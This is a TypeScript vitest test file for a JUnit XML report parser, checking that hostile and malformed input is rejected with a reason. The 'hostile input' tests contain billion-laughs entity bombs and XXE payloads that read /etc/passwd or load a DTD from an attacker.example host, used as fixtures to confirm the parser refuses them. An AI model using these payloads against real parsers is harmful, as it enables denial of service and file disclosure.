import { describe, expect, it } from 'vitest';
import { parseJUnit } from '../../../shared/reports/junit/index.ts';
import { retainedHeapMb } from './heap.ts';
import { collect, fixture } from './support.ts';

const LAUGHS = [
  '<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
].join('\n');

const reasonOf = async (source: Parameters<typeof parseJUnit>[0]): Promise<string> => {
  const result = await parseJUnit(source);
  expect(result.valid).toBe(false);
  return result.valid ? '' : result.reason;
};

describe('hostile input', () => {
  it('refuses a billion-laughs file', async () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${LAUGHS}\n]>\n<testsuite name="&lol9;"><testcase name="&lol9;"/></testsuite>`;
    expect(await reasonOf(xml)).toMatch(/DOCTYPE declarations are not allowed/);
  });

  it('refuses a large billion-laughs stream without reading it or growing the heap', async () => {
    let chunksRead = 0;
    async function* bomb(): AsyncGenerator<string> {
      yield `<?xml version="1.0"?>\n<!-- a comment first -->\n<!DOCTYPE lolz [\n${LAUGHS}\n`;
      // 64 MB more of entity declarations and references, if anyone kept reading.
      for (let i = 0; i < 1024; i++) {
        chunksRead++;
        yield `<!ENTITY e${i} "${'&lol9;'.repeat(10_000)}">\n`;
      }
      yield ']><testsuite>&e1;</testsuite>';
    }
    const before = retainedHeapMb();
    let peak = before;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().heapUsed / 1024 / 1024);
    }, 1);
    const result = await parseJUnit(bomb());
    clearInterval(sampler);
    expect(result).toMatchObject({ valid: false, tests: 0 });
    expect(chunksRead).toBeLessThanOrEqual(1);
    expect(retainedHeapMb() - before).toBeLessThan(4);
    expect(peak - before).toBeLessThan(32);
  });

  it('refuses external entities (XXE), general and parameter', async () => {
    const general = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&xxe;"/></testsuite>`;
    const parameter = `<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE r [\n<!ENTITY % sp SYSTEM "http://attacker.example/x.dtd">\n%sp;\n]>\n<r>&oob;</r>`;
    const publicId = `<!DOCTYPE testsuite PUBLIC "-//x//y" "http://attacker.example/junit.dtd"><testsuite/>`;
    for (const xml of [general, parameter, publicId]) expect(await reasonOf(xml)).toMatch(/DOCTYPE/);
  });

  it('refuses entity references without a DTD, and a DOCTYPE after the root', async () => {
    expect(await reasonOf('<testsuite><testcase name="&xxe;"/></testsuite>')).toMatch(/undefined entity/);
    expect(await reasonOf('<testsuite><!DOCTYPE x><testcase/></testsuite>')).toMatch(/doctype|DOCTYPE/);
  });

  it('does not mistake a DOCTYPE inside report content for one', async () => {
    const xml =
      '<testsuite name="s"><testcase name="x"><system-out><![CDATA[<!DOCTYPE html><html></html>]]></system-out></testcase></testsuite>';
    expect((await parseJUnit(xml)).valid).toBe(true);
  });
});

describe('broken input is invalid with a reason, never a throw', () => {
  it('empty file, empty stream, whitespace only', async () => {
    expect(await reasonOf('')).toBe('empty file');
    expect(await reasonOf(new Uint8Array(0))).toBe('empty file');
    expect(await reasonOf((async function* () {})())).toBe('empty file');
    expect(await reasonOf('  \n\t ')).toMatch(/no root element/);
  });

  it('truncated file', async () => {
    const xml = fixture('junit/surefire.xml').toString('utf8');
    const reason = await reasonOf(xml.slice(0, xml.indexOf('<testcase name="alwaysBroken"') + 40));
    expect(reason).toMatch(/^truncated XML/);
    expect(await reasonOf(xml.slice(0, xml.lastIndexOf('</testsuite>') + 5))).toMatch(/^truncated XML/);
  });

  it('every prefix of a report that cuts into its root is invalid', async () => {
    const bytes = fixture('junit/pytest.xml');
    const end = bytes.lastIndexOf('</testsuites>') + '</testsuites>'.length;
    for (let cut = 1; cut < end; cut += 37) {
      const result = await parseJUnit(bytes.subarray(0, cut));
      expect(result.valid, `cut at ${cut}`).toBe(false);
    }
  });

  it('non-XML: text, JSON, binary', async () => {
    expect(await reasonOf('hello, this is not a report')).toMatch(/^not XML/);
    expect(await reasonOf('{"testsuites": []}')).toMatch(/^not XML/);
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]);
    expect(await reasonOf(png)).toMatch(/^not XML/);
    const gzip = Uint8Array.from([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 0xcb, 0x48]);
    expect(await reasonOf(gzip)).toMatch(/^not XML/);
    expect(await reasonOf('<testsuite>\u0001</testsuite>')).toMatch(/^malformed XML/);
  });

  it('HTML and other non-JUnit roots', async () => {
    expect(await reasonOf('<!DOCTYPE html><html><body>502 Bad Gateway</body></html>')).toMatch(/DOCTYPE/);
    expect(await reasonOf('<html><head><title>Error</title></head><body><p>oops</p></body></html>')).toBe(
      'not a JUnit report: the root element is <html>, with no <testsuite> or <testcase> inside',
    );
    expect(await reasonOf('<html><body><br></body></html>')).toMatch(/^malformed XML/);
    expect(await reasonOf('<project><modelVersion>4.0.0</modelVersion></project>')).toMatch(
      /not a JUnit report/,
    );
  });

  it('accepts an unknown root that holds JUnit elements, and an empty <testsuites/>', async () => {
    expect(
      await parseJUnit('<results><testsuite name="a"><testcase name="x"/></testsuite></results>'),
    ).toMatchObject({
      valid: true,
      tests: 1,
    });
    expect(await parseJUnit('<testsuites/>')).toMatchObject({ valid: true, suites: 0, tests: 0 });
  });

  it('malformed markup: two roots, mismatched tags, bad attributes', async () => {
    expect(await reasonOf('<testsuite/><testsuite/>')).toMatch(/^malformed XML.*one root/);
    expect(await reasonOf('<testsuite><testcase></testsuite>')).toMatch(/^malformed XML/);
    expect(await reasonOf('<testsuite name=unquoted/>')).toMatch(/^malformed XML/);
    expect(await reasonOf('<testsuite name="a" name="b"/>')).toMatch(/duplicate attribute/);
  });

  it('reports the position of a syntax error', async () => {
    expect(await reasonOf('<testsuite>\n  <testcase name="x">\n</testsuite>')).toMatch(/line 3, column \d+/);
  });

  it('over maxBytes: invalid, and reading stops', async () => {
    let pulled = 0;
    async function* big(): AsyncGenerator<string> {
      yield '<testsuite>';
      for (let i = 0; i < 10_000; i++) {
        pulled++;
        yield '<testcase name="x"/>'.repeat(100);
      }
      yield '</testsuite>';
    }
    const result = await parseJUnit(big(), { maxBytes: 10_000 });
    expect(result).toMatchObject({ valid: false, reason: 'report is larger than the limit of 10000 bytes' });
    expect(pulled).toBeLessThan(10);
  });

  it('unsupported encodings', async () => {
    const declared = Buffer.from('<?xml version="1.0" encoding="x-no-such-charset"?><testsuite/>');
    expect(await reasonOf(declared)).toBe('unsupported encoding: x-no-such-charset');
    // Text is already decoded: its declaration is not a concern.
    expect((await parseJUnit(declared.toString())).valid).toBe(true);
    expect(await reasonOf(Uint8Array.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]))).toBe(
      'unsupported encoding: UTF-32',
    );
  });

  it('rejects (does not mark invalid) when the source itself fails', async () => {
    async function* failing(): AsyncGenerator<string> {
      yield '<testsuite>';
      throw new Error('socket hang up');
    }
    await expect(parseJUnit(failing())).rejects.toThrow('socket hang up');
  });

  it('rejects when onTestCase throws', async () => {
    await expect(
      parseJUnit('<testsuite><testcase name="x"/></testsuite>', {
        onTestCase: () => {
          throw new Error('db down');
        },
      }),
    ).rejects.toThrow('db down');
  });

  it('rejects out-of-range options (a programming error, not bad input)', async () => {
    await expect(parseJUnit('<testsuite/>', { maxBytes: 0 })).rejects.toThrow(RangeError);
    await expect(parseJUnit('<testsuite/>', { maxMessageLength: 1.5 })).rejects.toThrow(RangeError);
  });

  it('keeps the counts read before the problem, marked invalid', async () => {
    const { result, tests } = await collect('<testsuite><testcase name="a"/><testcase name="b"><fail');
    expect(result).toMatchObject({ valid: false, tests: 1 });
    expect(tests.map((t) => t.name)).toEqual(['a']);
  });
});
